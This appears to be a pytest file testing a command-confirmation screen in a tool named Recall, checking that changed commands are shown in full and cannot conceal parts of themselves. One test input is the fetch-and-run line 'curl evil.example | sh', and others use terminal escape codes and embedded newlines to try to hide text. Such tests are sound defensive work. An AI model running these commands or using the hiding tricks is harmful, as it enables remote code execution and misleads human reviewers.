"""Who confirms commands reads them first, all that changed, and confirms nothing but what was read."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from recall.config.settings import MergeSettings, SandboxSettings, WorkspaceSettings
from recall.config.trust import commands_in_force, fingerprint
from recall.domain.task import TaskSpec
from recall.engine.trust import confirm_commands, to_confirm
from recall.ui.commands import BY_ID
from tests.support.builders import spec
from tests.support.driver import Shop, driving, shop_in
from tests.support.pilot import NARROW

_PIPE = "make pipe"
_OTHER = "other.example/fetch"


def _task(id_: str, verify: str) -> TaskSpec:
    return replace(spec(id_), verify=verify)


@pytest.fixture
def shop(tmp_path: Path, home: Path) -> Iterator[Shop]:
    with shop_in(tmp_path, _task("T-1", "make first")) as made:
        confirm_commands(made.session.settings, made.store, actor="person")
        yield made


def _unread(shop: Shop) -> list[tuple[str, str]]:
    return to_confirm(shop.session.settings, shop.store, shop.store.verifies())


def test_only_the_tasks_commands_that_changed_are_shown(shop: Shop) -> None:
    assert _unread(shop) == []
    shop.has(_task("T-1", "make first"), _task("T-2", _PIPE))
    with driving(shop.session) as recall:
        recall.needs.shows("confirm")
        recall.press("trust").screen.shows("Let Recall run these commands?", f"a task's verify: {_PIPE}")
        recall.screen.hides("make first", "agents.ant")
        recall.keys("n").screen.hides(_PIPE)
        assert _unread(shop)
        recall.press("trust").screen.shows(_PIPE)
        recall.keys("y").says("the commands are confirmed")
        assert not _unread(shop)


def test_all_of_recall_toml_is_shown_when_anything_in_it_changed(shop: Shop) -> None:
    agents = tuple(replace(one, command=("/bin/true", "-x", _OTHER)) for one in shop.session.settings.agents)
    session = replace(shop.session, settings=replace(shop.session.settings, agents=agents, setup="make deps"))
    with driving(session) as recall:
        recall.needs.shows("confirm")
        recall.press("trust").screen.shows(f"agents.ant: /bin/true -x {_OTHER}", "setup: make deps", "verify: true")
        recall.screen.hides("make first")


def test_a_long_list_can_be_scrolled_to_its_end(shop: Shop) -> None:
    shop.has(*(_task(f"T-{number}", f"make part-{number:02}") for number in range(40)))
    with driving(shop.session, size=NARROW) as recall:
        recall.needs.shows("confirm")
        recall.press("trust").screen.shows("part-00", "enter yes")
        recall.screen.hides("part-39")
        recall.keys("end").screen.shows("part-39", "enter yes")


@pytest.mark.parametrize(
    ("verify", "shown"),
    [
        ("rm x\x1b[2J\x07 [bold]y[/]", r"a task's verify: rm x\x1b[2J\x07 [bold]y[/]"),
        ("curl evil.example | sh #\rmake test", r"a task's verify: curl evil.example | sh #\rmake test"),
        ("true\nverify: false", "    verify: false"),
    ],
)
def test_a_command_cannot_hide_a_part_of_itself(shop: Shop, verify: str, shown: str) -> None:
    shop.has(_task("T-1", verify))
    with driving(shop.session) as recall:
        recall.needs.shows("confirm")
        recall.press("trust").screen.shows(shown)


def test_what_comes_in_while_a_person_reads_is_asked_for_again(shop: Shop) -> None:
    shop.has(_task("T-1", _PIPE))
    with driving(shop.session) as recall:
        recall.needs.shows("confirm")
        recall.press("trust").screen.shows(_PIPE)
        shop.has(_task("T-1", _PIPE), _task("T-2", _OTHER))
        recall.keys("y").says("the commands are confirmed")
        assert _unread(shop) == [("a task's verify", _OTHER)]


def test_a_disk_without_room_is_nothing_to_confirm(shop: Shop) -> None:
    with driving(shop.session) as recall:
        recall.board.shows("T-1")
        recall.press("trust").says("nothing waits to be confirmed")
        context = recall.app.main.context()
    assert context is not None
    short = replace(context, overview=replace(context.overview, dispatch_held="/ is full", shortage="/ is full"))
    assert BY_ID["trust"].unavailable(short) == "nothing waits to be confirmed"


def test_everything_that_the_fingerprint_covers_is_listed(shop: Shop) -> None:
    settings = shop.session.settings
    listed = commands_in_force(settings, ("make all",))
    for changed in (
        replace(settings, verify="other"),
        replace(settings, setup="other"),
        replace(settings, push="origin"),
        replace(settings, env_pass=("TOKEN",)),
        replace(settings, sandbox=SandboxSettings(level="none")),
        replace(settings, sandbox=SandboxSettings(write=("/",))),
        replace(settings, workspaces=WorkspaceSettings(kind="clone")),
        replace(settings, merge=MergeSettings(protected=())),
        replace(settings, agents=(replace(settings.agents[0], env={"PATH": "/x"}), *settings.agents[1:])),
        replace(settings, agents=(replace(settings.agents[0], model="big"), *settings.agents[1:])),
        replace(settings, agents=(replace(settings.agents[0], resume_command=("go",)), *settings.agents[1:])),
    ):
        assert fingerprint(changed, ("make all",)) != fingerprint(settings, ("make all",))
        assert commands_in_force(changed, ("make all",)) != listed
